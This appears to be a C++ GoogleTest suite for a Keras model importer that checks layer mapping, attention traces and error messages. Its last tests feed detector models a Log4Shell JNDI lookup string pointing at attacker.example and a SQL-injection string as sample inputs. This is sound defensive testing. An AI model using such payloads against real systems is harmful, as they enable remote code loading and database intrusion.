// Keras files opened directly: the fixtures of tools/make_keras_fixtures.py
// (Keras 2 and Keras 3 layouts, both seed architectures, every mapped layer
// family) against the outputs Keras' formulas give, the custom-layer paths,
// the import-keras command, and the refusals.
#include <unistd.h>

#include <cmath>
#include <cstdlib>
#include <filesystem>
#include <fstream>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "engine/keras/keras_import.h"
#include "engine/keras/keras_tokenizer.h"
#include "engine/runner.h"
#include "tests/engine/cli_runner.h"
#include "tests/engine/error_of.h"

namespace lstmscope {
namespace {

using nlohmann::json;
using testing::error_of;

const std::string kDir = std::string(LSTMSCOPE_TEST_DATA) + "/keras/import/";

json expected() {
    std::ifstream in(kDir + "expected.json");
    return json::parse(in);
}

ImportOptions options_for(const std::string& tokenizer) {
    ImportOptions o;
    o.tokenizer = kDir + tokenizer;
    o.tokenizer_type = "keras";  // vocab.txt splits as Keras' Tokenizer does
    return o;
}

// Every case of a fixture: the ids the tokenizer gives, the output and each
// named attention matrix, within float32 rounding of the float64 reference.
void expect_matches(const Model& model, const json& fixture) {
    for (const auto& c : fixture["cases"]) {
        SCOPED_TRACE(c["text"].get<std::string>());
        const Trace trace = run(model, c["text"].get<std::string>());
        std::vector<int> ids;
        for (const auto& t : trace.tokens) ids.push_back(t.id);
        EXPECT_EQ(ids, c["ids"].get<std::vector<int>>());
        const Matrix& out = trace.output();
        json want = c["output"];
        // A Dense(1, sigmoid) output is shown as two classes [1 - p, p].
        if (want.size() == 1 && want[0].size() == 1 && out.cols() == 2)
            want = json::array({json::array({1.0 - want[0][0].get<double>(), want[0][0].get<double>()})});
        ASSERT_EQ(out.rows(), static_cast<Eigen::Index>(want.size()));
        ASSERT_EQ(out.cols(), static_cast<Eigen::Index>(want[0].size()));
        for (Eigen::Index r = 0; r < out.rows(); ++r)
            for (Eigen::Index k = 0; k < out.cols(); ++k)
                EXPECT_NEAR(out(r, k), want[static_cast<size_t>(r)][static_cast<size_t>(k)].get<double>(), 2e-5);
        for (const auto& [node, matrix] : c["attention"].items()) {
            const NodeTrace* n = trace.find(node);
            ASSERT_NE(n, nullptr) << "no node " << node;
            ASSERT_FALSE(n->attention.empty()) << node << " records no attention";
            // One matrix per head; a single-head node's matrix is the whole value.
            const bool heads = n->attention.size() > 1;
            for (size_t h = 0; h < n->attention.size(); ++h) {
                const Matrix& a = n->attention[h];
                const json& w = heads ? matrix[h] : matrix;
                ASSERT_EQ(a.rows(), static_cast<Eigen::Index>(w.size())) << node;
                for (Eigen::Index r = 0; r < a.rows(); ++r)
                    for (Eigen::Index k = 0; k < a.cols(); ++k)
                        EXPECT_NEAR(a(r, k), w[static_cast<size_t>(r)][static_cast<size_t>(k)].get<double>(), 2e-5)
                            << node << " head " << h << " row " << r;
            }
        }
    }
}

class KerasFixture : public ::testing::TestWithParam<std::string> {};

TEST_P(KerasFixture, MatchesKerasFormulas) {
    const json all = expected();
    const json& fixture = all.at(GetParam());
    const Model model = Model::load(kDir + GetParam(), options_for(fixture["tokenizer"]));
    expect_matches(model, fixture);
}

INSTANTIATE_TEST_SUITE_P(KerasImport, KerasFixture,
                         ::testing::Values("seed_b_keras2.h5", "pool_gru_keras3.h5", "pool_gru.keras", "seed_a_keras3.h5",
                                           "custom_keras2.h5", "time_attention_keras2.h5",
                                           "additive_gru_keras2.h5"),
                         [](const auto& info) {
                             std::string n = info.param;
                             for (char& c : n)
                                 if (c == '.') c = '_';
                             return n;
                         });

TEST(KerasImport, StockAttentionBecomesAttentionNodes) {
    const Model b = Model::load(kDir + "seed_b_keras2.h5", options_for("tokenizer.json"));
    // Seed B's Permute / Dot / softmax / Dot is one attention node named
    // after its softmax layer; the Permute and Dots leave no node behind.
    std::vector<std::string> names;
    for (const auto& n : b.nodes) names.push_back(n.name + ":" + std::string(op_kind_name(n.op)));
    EXPECT_EQ(names, (std::vector<std::string>{"embedding:embedding", "bidirectional:lstm", "attention:attention",
                                                "concatenate:concat", "time_distributed:dense"}));
    EXPECT_EQ(b.task, Task::Tagging);

    const Model pool = Model::load(kDir + "pool_gru_keras3.h5", options_for("vocab.txt"));
    const auto it = std::find_if(pool.nodes.begin(), pool.nodes.end(),
                                 [](const Node& n) { return n.name == "attention_weights"; });
    ASSERT_NE(it, pool.nodes.end());
    EXPECT_EQ(it->op, OpKind::AttentionPool);
    EXPECT_EQ(it->config["score"], "linear");
    EXPECT_EQ(pool.task, Task::Classification);
    // The fixed input length pads as pad_sequences does by default (pre).
    ASSERT_TRUE(pool.tokenizer.pad_to.has_value());
    EXPECT_EQ(*pool.tokenizer.pad_to, 12);
    EXPECT_EQ(pool.tokenizer.padding, PaddingSide::Pre);
}

TEST(KerasImport, CustomLayerByMappingFileOrBuiltInRecogniser) {
    const json all = expected();
    ImportOptions mapped = options_for("vocab.txt");
    mapped.custom_layers = kDir + "attention_map.json";
    const Model by_map = Model::load(kDir + "custom_keras2.h5", mapped);
    expect_matches(by_map, all["custom_keras2.h5"]);
    bool said = false;
    for (const auto& w : by_map.warnings) said |= w.find("mapped by") != std::string::npos;
    EXPECT_TRUE(said);

    const Model builtin = Model::load(kDir + "custom_keras2.h5", options_for("vocab.txt"));
    said = false;
    for (const auto& w : builtin.warnings) said |= w.find("recognised as attention pooling") != std::string::npos;
    EXPECT_TRUE(said) << "the built-in recogniser must say what it assumed";
}

TEST(KerasImport, WeightsOnlyNeedsItsArchitecture) {
    const std::string file = kDir + "custom_keras2.weights.h5";
    const std::string message = error_of([&] { Model::load(file, options_for("vocab.txt")); });
    EXPECT_NE(message.find(file), std::string::npos) << message;
    EXPECT_NE(message.find("weights only"), std::string::npos) << message;
    EXPECT_THROW(Model::load(file, options_for("vocab.txt")), keras::NeedsArchitecture);

    ImportOptions o = options_for("vocab.txt");
    o.architecture = kDir + "custom_keras2.json";
    expect_matches(Model::load(file, o), expected()["custom_keras2.h5"]);
}

// A Dense with activation log_softmax (keras.activations.log_softmax) maps
// to the dense activation of that name: a classifier whose outputs are the
// logarithms of the softmax model's.
TEST(KerasImport, LogSoftmaxDenseIsAClassifierOfLogProbabilities) {
    const auto dir = std::filesystem::temp_directory_path() / ("lstmscope_keras_log_softmax_" + std::to_string(::getpid()));
    std::filesystem::create_directories(dir);
    json arch = json::parse(std::ifstream(kDir + "custom_keras2.json"));
    ASSERT_EQ(arch["config"]["layers"][4]["config"]["activation"], "softmax");
    arch["config"]["layers"][4]["config"]["activation"] = "log_softmax";
    const std::string path = (dir / "arch.json").string();
    std::ofstream(path) << arch.dump();
    ImportOptions o = options_for("vocab.txt");
    const Model softmax = Model::load(kDir + "custom_keras2.h5", o);
    o.architecture = path;
    const Model log_softmax = Model::load(kDir + "custom_keras2.weights.h5", o);
    std::filesystem::remove_all(dir);
    EXPECT_EQ(log_softmax.task, Task::Classification);
    const Node& out = log_softmax.nodes.at(static_cast<size_t>(log_softmax.output_node));
    EXPECT_EQ(out.config.value("activation", ""), "log_softmax");
    const Matrix p = run(softmax, "the film was good").output();
    const Matrix logp = run(log_softmax, "the film was good").output();
    ASSERT_EQ(p.cols(), logp.cols());
    for (Eigen::Index c = 0; c < p.cols(); ++c) EXPECT_NEAR(logp(0, c), std::log(p(0, c)), 1e-5) << c;
}

TEST(KerasImport, SubclassedModelThroughAManifestNamingItsKerasWeights) {
    // Seed A as Keras users write it (a subclassed model, save_weights only):
    // a manifest of the graph, nodes named after the Keras layers, weights
    // converted from the .h5 by each node's op.
    const Model model = Model::load(kDir + "seed_a_subclassed.json");
    json fixture = expected()["seed_a_keras3.h5"];
    for (auto& c : fixture["cases"]) c["attention"]["multi_head_attention"] = c["attention"]["mha"], c["attention"].erase("mha");
    expect_matches(model, fixture);
}

TEST(KerasImport, NoVocabularyIsAClearError) {
    const std::string file = kDir + "seed_b_keras2.h5";
    EXPECT_THROW(Model::load(file), keras::NeedsTokenizer);
    const std::string message = error_of([&] { Model::load(file); });
    EXPECT_NE(message.find("--tokenizer"), std::string::npos) << message;
}

TEST(KerasImport, ImportKerasWritesAModelThatLoadsAlone) {
    const auto dir = std::filesystem::temp_directory_path() / "lstmscope_import_keras_test";
    std::filesystem::remove_all(dir);
    std::filesystem::create_directories(dir);
    const std::string out = (dir / "seed_a.json").string();
    const auto r = testing::run_cli({"import-keras", kDir + "seed_a_keras3.h5", "-o", out, "--tokenizer",
                                     kDir + "tokenizer.json"},
                                    std::filesystem::temp_directory_path());
    ASSERT_EQ(r.status, 0) << r.err;
    EXPECT_TRUE(std::filesystem::exists(dir / "seed_a.safetensors"));
    expect_matches(Model::load(out), expected()["seed_a_keras3.h5"]);
    std::filesystem::remove_all(dir);
}

TEST(KerasImport, EveryCommandOpensKerasFiles) {
    const auto r = testing::run_cli({"trace", kDir + "custom_keras2.h5", "--tokenizer", kDir + "vocab.txt",
                                     "--tokenizer-type", "keras", "--text", "the food was good"},
                                     std::filesystem::temp_directory_path());
    ASSERT_EQ(r.status, 0) << r.err;
    const json trace = json::parse(r.out);
    EXPECT_EQ(trace["tokens"].size(), 4u);
    const auto bad = testing::run_cli({"info", kDir + "custom_keras2.h5"}, std::filesystem::temp_directory_path());
    EXPECT_EQ(bad.status, 2);
    EXPECT_NE(bad.err.find("--tokenizer"), std::string::npos) << bad.err;
}

// A converted file whose config names a layer that has no weights in the
// file, a Lambda and an unrecognisable custom layer: each a message naming
// the file, the layer and its class.
TEST(KerasImport, RefusalsNameTheLayer) {
    const auto dir = std::filesystem::temp_directory_path() / "lstmscope_keras_refusals";
    std::filesystem::create_directories(dir);
    json arch = json::parse(std::ifstream(kDir + "custom_keras2.json"));
    auto write = [&](const json& a) {
        const std::string p = (dir / "arch.json").string();
        std::ofstream(p) << a.dump();
        ImportOptions o = options_for("vocab.txt");
        o.architecture = p;
        return error_of([&] { Model::load(kDir + "custom_keras2.weights.h5", o); });
    };
    json lambda = arch;
    lambda["config"]["layers"][2]["class_name"] = "Lambda";
    std::string m = write(lambda);
    EXPECT_NE(m.find("layer 'attention_layer' (Lambda)"), std::string::npos) << m;
    EXPECT_NE(m.find("custom-layer"), std::string::npos) << m;

    json conv = arch;
    conv["config"]["layers"][2]["class_name"] = "Conv1D";
    m = write(conv);
    EXPECT_NE(m.find("(Conv1D): is a Keras layer lstmscope does not map yet"), std::string::npos) << m;

    json renamed = arch;
    renamed["config"]["layers"][3]["config"]["name"] = "no_such_group";
    m = write(renamed);
    EXPECT_NE(m.find("no_such_group"), std::string::npos) << m;

    json relu_cell = arch;
    relu_cell["config"]["layers"][1]["config"]["activation"] = "relu";
    m = write(relu_cell);
    EXPECT_NE(m.find("layer 'lstm' (LSTM): uses activation 'relu'"), std::string::npos) << m;
    std::filesystem::remove_all(dir);
}

TEST(KerasImport, BrokenFilesEndWithAMessage) {
    const auto dir = std::filesystem::temp_directory_path() / "lstmscope_keras_broken";
    std::filesystem::create_directories(dir);
    std::ifstream in(kDir + "seed_b_keras2.h5", std::ios::binary);
    std::string bytes((std::istreambuf_iterator<char>(in)), {});
    for (const size_t keep : {size_t{8}, size_t{600}, bytes.size() / 2, bytes.size() - 100}) {
        const std::string p = (dir / ("cut" + std::to_string(keep) + ".h5")).string();
        std::ofstream(p, std::ios::binary) << bytes.substr(0, keep);
        const std::string m = error_of([&] { Model::load(p, options_for("tokenizer.json")); });
        EXPECT_NE(m.find(p), std::string::npos) << keep << ": " << m;
        const auto r = testing::run_cli({"info", p, "--tokenizer", kDir + "tokenizer.json"}, std::filesystem::temp_directory_path());
        EXPECT_EQ(r.status, 2) << keep << ": " << r.err;
    }
    // The same for .keras zips: cut short, or missing the weights or the config.
    for (const char* zip : {"keras3_truncated.keras", "keras3_no_weights.keras", "keras3_no_config.keras"}) {
        const std::string p = std::string(LSTMSCOPE_TEST_DATA) + "/keras/" + zip;
        const auto r = testing::run_cli({"trace", p, "--tokenizer", kDir + "vocab.txt", "--text", "good"},
                                        std::filesystem::temp_directory_path());
        EXPECT_EQ(r.status, 2) << zip << ": " << r.err;
        EXPECT_NE(r.err.find(zip), std::string::npos) << r.err;
        EXPECT_TRUE(r.out.empty());
    }
    std::filesystem::remove_all(dir);
}

}  // namespace
}  // namespace lstmscope

namespace lstmscope {
namespace {

// The three real third-party files of ../shared/samples/keras (never copied
// into the repository; skipped where they are absent). Their vocabularies
// were never published (pickles of project classes), so the tests make up
// character vocabularies of the right size: what is checked is that each
// file converts, runs, and shows its attention where it should.
const std::string kSamples = LSTMSCOPE_KERAS_SAMPLES;

std::string vocabulary_file(const std::string& name, const std::vector<std::string>& entries) {
    const auto path = std::filesystem::temp_directory_path() / name;
    std::ofstream out(path);
    for (const auto& e : entries) out << e << '\n';
    return path.string();
}

std::vector<std::string> printable_ascii(size_t count) {
    std::vector<std::string> v{"<pad>", "<OOV>"};
    for (char c = '!'; c <= '~' && v.size() < count; ++c) v.push_back(std::string(1, c));
    return v;
}

double row_sum(const Matrix& m, Eigen::Index r) { return m.row(r).sum(); }

TEST(KerasRealFiles, LogShieldStockLayerAttention) {
    const std::string file = kSamples + "/logshield_bilstm_attention.h5";
    if (!std::filesystem::exists(file)) GTEST_SKIP() << file << " is not here";
    ImportOptions o;
    o.tokenizer = vocabulary_file("logshield_vocab.txt", printable_ascii(93));
    o.tokenizer_type = "char";
    const Model model = Model::load(file, o);
    const Trace trace = run(model, "${jndi:ldap://attacker.example/a}");
    EXPECT_EQ(trace.tokens.size(), 512u);  // padded to the input length, as in training
    const NodeTrace* a = trace.find("attention_weights");
    ASSERT_NE(a, nullptr);
    EXPECT_EQ(a->op, OpKind::AttentionPool);
    ASSERT_EQ(a->attention.size(), 1u);
    EXPECT_EQ(a->attention[0].cols(), 512);
    EXPECT_NEAR(row_sum(a->attention[0], 0), 1.0, 1e-5);
    // Dense(1, sigmoid) shown as two classes.
    ASSERT_EQ(trace.output().cols(), 2);
    EXPECT_NEAR(trace.output().sum(), 1.0, 1e-6);
}

TEST(KerasRealFiles, SqlInjectionCustomLayerByRecogniserAndByMappingFile) {
    const std::string file = kSamples + "/somioss_sqli_attention_lstm_model.h5";
    if (!std::filesystem::exists(file)) GTEST_SKIP() << file << " is not here";
    ImportOptions o;
    o.tokenizer = vocabulary_file("sqli_vocab.txt", printable_ascii(80));
    o.tokenizer_type = "keras_char";
    const std::string text = "select * from users where id = 1 or 1=1 --";
    const Model builtin = Model::load(file, o);
    const Trace t1 = run(builtin, text);
    ASSERT_NE(t1.find("attention"), nullptr);
    EXPECT_EQ(t1.find("attention")->op, OpKind::AttentionPool);

    o.custom_layers = kDir + "attention_map.json";  // AttentionLayer: tanh(x W + b) pooling
    const Trace t2 = run(Model::load(file, o), text);
    EXPECT_EQ(t2.output(), t1.output());
    EXPECT_EQ(t2.find("attention")->attention[0], t1.find("attention")->attention[0]);
}

TEST(KerasRealFiles, ChineseWeightsOnlyWithItsDoubleEncodedYaml) {
    const std::string file = kSamples + "/jiahenghuang_bilstm_attention.weights.h5";
    const std::string yaml = kSamples + "/jiahenghuang_bilstm_attention.architecture.yml";
    if (!std::filesystem::exists(file)) GTEST_SKIP() << file << " is not here";
    std::vector<std::string> chars{"<pad>", "<unk>"};
    for (const char* c : {"我", "想", "听", "周", "杰", "伦", "的", "歌", "明", "天", "气", "怎", "么", "样"})
        chars.push_back(c);
    ImportOptions o;
    o.tokenizer = vocabulary_file("zh_vocab.txt", chars);
    o.tokenizer_type = "char";
    const std::string message = error_of([&] { Model::load(file, o); });
    EXPECT_NE(message.find("--architecture"), std::string::npos) << message;

    o.architecture = yaml;
    const Model model = Model::load(file, o);
    const Trace trace = run(model, "我想听周杰伦的歌");
    EXPECT_EQ(trace.tokens.size(), 30u);
    const NodeTrace* a = trace.find("attention_layer");
    ASSERT_NE(a, nullptr);
    EXPECT_EQ(a->op, OpKind::FeatureAttention);
    ASSERT_EQ(a->attention.size(), 1u);
    EXPECT_EQ(a->attention[0].rows(), 100);  // one distribution per BiLSTM feature
    EXPECT_EQ(a->attention[0].cols(), 30);   // over the 30 positions
    for (Eigen::Index r = 0; r < 100; r += 33) EXPECT_NEAR(row_sum(a->attention[0], r), 1.0, 1e-5);
    EXPECT_NEAR(trace.output().sum(), 1.0, 1e-5);  // six classes, softmax
    EXPECT_EQ(trace.output().cols(), 6);
}

}  // namespace
}  // namespace lstmscope
